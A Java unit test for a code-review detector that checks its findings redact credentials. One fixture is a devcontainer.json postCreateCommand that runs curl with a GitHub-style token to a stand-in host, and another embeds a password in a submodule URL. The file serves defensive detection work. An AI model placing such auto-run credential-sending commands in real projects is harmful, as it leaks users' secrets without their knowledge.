package dev.countersign.detect;

import static org.assertj.core.api.Assertions.assertThat;

import dev.countersign.review.Review;
import java.util.List;
import java.util.Set;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;

/// Whatever detector speaks of a line, no credential on it is shown.
class RedactionTest {
    private static final String TOKEN = "ghp" + "_zQWBuTSOoRi4A9spHcVY5ncnsDkxkJ0mLq17";
    private static final String PASSWORD = "kV9x2LmQ7w" + "Zt4B";

    private final RealReview reviews = new RealReview();

    @Test
    void commandThatRunsByItselfIsToldWithoutItsToken() {
        // at every place of the token, also where a quote or message is cut within it
        for (int blanks = 0; blanks < 200; blanks += 7) {
            String text =
                    "{\"postCreateCommand\": \"curl -H 'a: " + " ".repeat(blanks) + TOKEN + "' https://x.example\"}\n";
            Review review = review(".devcontainer/devcontainer.json", text);
            assertThat(kinds(review)).contains(FactKind.AUTO_RUN, FactKind.SECRET);
            assertHides(review, TOKEN);
        }
    }

    @Test
    void addressOfASubmoduleIsToldWithoutItsPassword() {
        Review review = review(
                ".gitmodules",
                "[submodule \"m\"]\n\tpath = m\n\turl = https://bob:" + PASSWORD + "@git.acme-tools.dev/m.git\n");
        assertThat(kinds(review)).contains(FactKind.DEPENDENCY_SOURCE);
        assertHides(review, PASSWORD);
    }

    @Test
    void whatIsNoCredentialIsShown() {
        Review review =
                review(".gitmodules", "[submodule \"m\"]\n\tpath = m\n\turl = https://git.example.org/owner/m.git\n");
        assertThat(told(review)).anyMatch(text -> text.contains("https://git.example.org/owner/m.git"));
    }

    private Review review(String path, String after) {
        return reviews.of(Draft.of(Case.of("secret").added(path, after)));
    }

    private static Set<FactKind> kinds(Review review) {
        return review.facts().stream().map(fact -> fact.seen().kind()).collect(Collectors.toSet());
    }

    private static List<String> told(Review review) {
        return review.facts().stream()
                .map(Fact::seen)
                .map(seen -> seen.message() + '\n' + seen.quote() + '\n' + seen.subject())
                .toList();
    }

    private static void assertHides(Review review, String secret) {
        assertThat(told(review))
                .isNotEmpty()
                .allSatisfy(text -> assertThat(text).doesNotContain(secret.substring(0, 8)));
    }
}
